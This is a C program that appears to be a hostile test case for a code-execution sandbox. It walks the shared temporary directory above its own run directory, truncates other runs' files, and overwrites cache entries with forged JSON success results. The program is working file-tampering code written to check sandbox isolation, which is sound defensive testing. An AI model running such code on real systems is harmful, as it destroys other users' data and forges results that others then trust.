// HOSTILE walk the temporary directory (.., or ../.. past the bootstrap's own directory) and overwrite every file of others it can open: cache entries, run directories | expect ok | needs mountns
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Where it can write there (no mount namespace, no Landlock), what it
   rewrites must gain it nothing: a cache entry it rewrote is a miss, never
   served with its text. Paths are malloc'd, not char arrays drawn at
   every step: the trace's size does not depend on what the directory
   holds. */
static char *self;
static int tried;

static int visit(const char *path, const struct stat *st, int type, struct FTW *f)
{
    (void)st;
    (void)f;
    if (type != FTW_F)
        return 0;
    char *real = realpath(path, NULL);
    int mine = !real || strncmp(real, self, strlen(self)) == 0;
    free(real);
    if (mine || ++tried > 500)
        return 0;
    int fd = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW);
    if (fd < 0)
        return 0;
    const char planted[] = "{\"success\":true,\"stdout\":\"PLANTED\"}";
    if (write(fd, planted, sizeof planted - 1) > 0)
        printf("ESCAPED: overwrote %s\n", path);
    close(fd);
    return 0;
}

int main(void)
{
    if (!(self = getcwd(NULL, 0)))
        return 1;
    /* the shared temporary directory: .., or above the Lambda bootstrap's
       own directory of runs when the run directory is in one */
    const char *tmp = strstr(self, "/spp-bootstrap-") ? "../.." : "..";
    if (nftw(tmp, visit, 16, FTW_PHYS) != 0)
        printf("cannot walk %s\n", tmp);
    printf("looked at %d files\n", tried);
    return 0;
}
